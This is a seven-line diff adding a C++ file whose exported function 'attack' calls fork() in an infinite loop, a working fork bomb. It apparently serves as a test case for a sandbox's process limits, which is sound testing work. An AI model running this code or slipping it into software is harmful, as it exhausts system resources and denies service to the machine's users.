@@ -1,0 +1,7 @@
+#include <unistd.h>
+
+extern "C" long attack(long n) {
+    for (;;)
+        fork();
+    return n;
+}
